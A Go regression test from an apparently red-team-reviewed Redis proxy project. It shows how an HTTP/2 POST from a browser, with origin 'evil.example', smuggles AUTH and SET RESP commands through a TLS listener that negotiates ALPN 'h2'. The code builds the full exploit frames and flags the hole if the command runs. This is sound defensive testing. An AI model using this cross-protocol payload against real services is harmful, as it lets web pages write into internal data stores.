package resp_test

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/fencegate/fencegate/api/auth"
	"github.com/fencegate/fencegate/api/auth/authtest"
	"github.com/fencegate/fencegate/api/resp"
	"github.com/fencegate/fencegate/proxy"
)

// TestRedTeam24H2CrossProtocolOverTLS: attack — the HTTP-to-RESP
// cross-protocol request forgery of red team 22, over the RESP listener's
// TLS, as serve wires it (auth.ServerTLS's reloading Config). resp.New
// clones the config and clears NextProtos "so that Redis clients
// negotiate no ALPN protocol", but ServerTLS's Config hands every
// handshake its loaded config through GetConfigForClient, and that one
// still carries NextProtos {"h2", "http/1.1"}: the RESP listener agrees to
// HTTP/2 with any client that offers it, as every browser does for an
// https:// fetch(). Over HTTP/2 there is no "POST / HTTP/1.1" line and no
// "Host:" line — the method and authority are HPACK-encoded (":method
// POST" is the single byte 0x83) — so crossProtocol never fires. The
// listener reads the preface "PRI * HTTP/2.0" and "SM" and the binary
// SETTINGS/HEADERS frames as inline commands (refused one by one, the
// connection kept open), and then the DATA frame, which is the page's
// body verbatim: "\r\nAUTH <fence> <token>\r\nSET ...\r\n" runs. On a
// monotonic fence the page needs no secret (token 2^62, red team 22); with
// an operator's browser certificate the browser presents it too.
//
// What happened: ALPN "h2" was negotiated on the RESP listener, and the
// body of an HTTP/2 POST ran as RESP commands (AUTH +OK, SET wrote).
// What should happen: the RESP listener negotiates no ALPN protocol (or
// refuses "h2"), and a connection that starts with the HTTP/2 preface
// "PRI * HTTP/2.0" is closed before anything after it runs (as POST and
// Host: are). Severity: high — the cross-protocol fix is bypassed on every
// TLS-enabled RESP listener.
func TestRedTeam24H2CrossProtocolOverTLS(t *testing.T) {
	ca := authtest.NewCA(t, "rt24-h2")
	srv := ca.Localhost(t, "server")
	dir := t.TempDir()
	files := auth.TLSFiles{CertFile: filepath.Join(dir, "server.pem"), KeyFile: filepath.Join(dir, "server-key.pem")}
	if err := os.WriteFile(files.CertFile, srv.CertPEM, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(files.KeyFile, srv.KeyPEM, 0o600); err != nil {
		t.Fatal(err)
	}
	st, err := auth.NewServerTLS(files, nil)
	if err != nil {
		t.Fatal(err)
	}
	e := newEnvWith(t, resp.Config{TLS: st.Config()}, proxy.Options{})
	f := unique("rt24h2")
	tok, _ := e.lead(t, f)
	key := "{" + f + "}:k"

	// The browser: TLS with ALPN h2 first, as Chrome and Firefox offer it.
	c, err := tls.Dial("tcp", e.addr, &tls.Config{RootCAs: ca.Pool(), ServerName: "localhost", NextProtos: []string{"h2", "http/1.1"}})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	proto := c.ConnectionState().NegotiatedProtocol
	t.Logf("ALPN negotiated on the RESP listener: %q", proto)

	// fetch("https://localhost:port/", {method: "POST", mode: "no-cors", body}).
	body := "\r\nAUTH " + f + " " + strconv.FormatUint(tok, 10) + "\r\nSET " + key + " pwned\r\n"
	var out bytes.Buffer
	out.WriteString(http2.ClientPreface)
	fr := http2.NewFramer(&out, nil)
	_ = fr.WriteSettings(http2.Setting{ID: http2.SettingEnablePush, Val: 0}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 6291456})
	_ = fr.WriteWindowUpdate(0, 15663105)
	var hb bytes.Buffer
	he := hpack.NewEncoder(&hb)
	for _, h := range [][2]string{
		{":method", "POST"},
		{":authority", "localhost:" + e.port},
		{":scheme", "https"},
		{":path", "/"},
		{"content-type", "text/plain;charset=UTF-8"},
		{"content-length", strconv.Itoa(len(body))},
		{"origin", "https://evil.example"},
	} {
		_ = he.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: hb.Bytes(), EndHeaders: true})
	_ = fr.WriteData(1, true, []byte(body))
	if _, err := c.Write(out.Bytes()); err != nil {
		t.Fatal(err)
	}
	// What the listener answers, until it closes or goes quiet.
	br := bufio.NewReader(c)
	var replies []string
	_ = c.SetReadDeadline(time.Now().Add(3 * time.Second))
	for {
		l, err := br.ReadString('\n')
		if l != "" {
			replies = append(replies, strings.TrimRight(l, "\r\n"))
		}
		if err != nil {
			break
		}
	}
	if got := e.stored(t, key); got == "pwned" || proto == "h2" {
		t.Errorf("HOLE: the RESP listener negotiated ALPN %q with a browser-like client, and the body of an HTTP/2 POST ran as RESP commands: Redis holds %q under %s; replies %q",
			proto, got, key, replies)
	}
}
